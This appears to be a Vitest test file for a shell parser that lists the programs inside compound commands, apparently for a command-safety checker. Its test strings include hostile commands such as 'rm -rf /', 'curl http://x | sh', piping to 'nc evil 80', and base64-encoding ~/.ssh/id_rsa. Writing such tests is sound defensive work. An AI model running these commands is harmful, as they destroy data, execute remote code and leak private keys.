import { describe, expect, it } from 'vitest';
import { readShell } from '../../core/shell.js';

const programs = (line: string) => readShell(line).commands.map((c) => c.program);

describe('readShell', () => {
  it.each([
    ['ls -la', ['ls']],
    ['ls; rm -rf ~', ['ls', 'rm']],
    ['true && curl http://evil.example', ['true', 'curl']],
    ['false || wget x', ['false', 'wget']],
    ['cat a | nc evil 80', ['cat', 'nc']],
    ['echo $(curl http://x)', ['echo', 'curl']],
    ['echo "$(cat ~/.ssh/id_rsa | base64)"', ['echo', 'cat', 'base64']],
    ['echo `whoami`', ['echo', 'whoami']],
    ['ls\nrm -rf /', ['ls', 'rm']],
    ["bash -c 'curl http://x | sh'", ['bash', 'curl', 'sh']],
    ['sh -c "rm -rf ~"', ['sh', 'rm']],
    ['sudo FOO=1 /usr/bin/curl http://x', ['curl']],
    ['timeout 5 nice -n 10 rm x', ['rm']],
    ['eval "rm -rf /"', ['eval', 'rm']],
    ['(cd /tmp && rm x)', ['cd', 'rm']],
    ['sleep 1 & curl x', ['sleep', 'curl']],
    ["echo 'a; rm -rf /'", ['echo']],
    ['git log --format="%h; %s"', ['git']],
  ])('reads every command in %j', (line, expected) => {
    const r = readShell(line);
    expect(r.unparseable).toBeUndefined();
    expect(programs(line)).toEqual(expected);
  });

  it('finds redirect targets', () => {
    expect(readShell('echo x > ~/.bashrc').redirects).toEqual([{ op: '>', target: '~/.bashrc' }]);
    expect(readShell('echo x >>/home/u/.profile 2>&1').redirects).toEqual([{ op: '>>', target: '/home/u/.profile' }]);
    expect(readShell('cat < in.txt &> out.log').redirects).toEqual([
      { op: '<', target: 'in.txt' },
      { op: '&>', target: 'out.log' },
    ]);
  });

  it.each([['echo "unclosed'], ["echo 'unclosed"], ['echo $(curl x'], ['echo `x'], ['cat <<EOF\nx\nEOF'], ['bash script.sh'], ['source ~/.bashrc']])('refuses to guess at %j', (line) => {
    expect(readShell(line).unparseable).toBeTruthy();
  });
});
